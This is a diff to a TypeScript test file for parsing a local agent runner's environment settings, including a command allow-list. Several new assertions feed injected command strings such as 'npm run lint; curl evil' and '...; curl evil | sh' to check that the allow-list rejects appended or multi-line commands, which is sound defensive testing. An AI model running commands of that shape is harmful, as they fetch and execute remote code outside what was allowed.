@@ -16,16 +16,21 @@ test("reads every FACTORY_* variable of the local runner", () => {
   const options = localRunnerOptionsFromEnv({
     FACTORY_WORKDIR: "/srv/factory",
     FACTORY_MAX_TASKS: "4",
-    FACTORY_ALLOWED_COMMANDS: '["^droid exec ", "^npm (test|run lint)$"]',
+    FACTORY_ALLOWED_COMMANDS: '["droid exec --auto medium -f \\"\\\\$FACTORY_TASK_FILE\\"", "npm (test|run lint)"]',
     FACTORY_AGENT_ENV: " ANTHROPIC_API_KEY, OPENAI_API_KEY ,",
   });
 
   expect(options.workdir).toBe("/srv/factory");
   expect(options.maxTasks).toBe(4);
   expect(options.agentEnvNames).toEqual(["ANTHROPIC_API_KEY", "OPENAI_API_KEY"]);
-  expect(options.allowedCommands?.map((pattern) => pattern.source)).toEqual(["^droid exec ", "^npm (test|run lint)$"]);
-  expect(options.allowedCommands?.[1]?.test("npm run lint")).toBe(true);
-  expect(options.allowedCommands?.[1]?.test("npm run lint; curl evil")).toBe(false);
+  const [droid, npm] = options.allowedCommands ?? [];
+  expect(npm?.test("npm run lint")).toBe(true);
+  // Patterns match whole commands: nothing may be appended, prepended or put on a second line.
+  expect(npm?.test("npm run lint; curl evil")).toBe(false);
+  expect(npm?.test("curl evil; npm test")).toBe(false);
+  expect(npm?.test("npm test\ncurl evil")).toBe(false);
+  expect(droid?.test('droid exec --auto medium -f "$FACTORY_TASK_FILE"')).toBe(true);
+  expect(droid?.test('droid exec --auto medium -f "$FACTORY_TASK_FILE"; curl evil | sh')).toBe(false);
 });
 
 test.each([
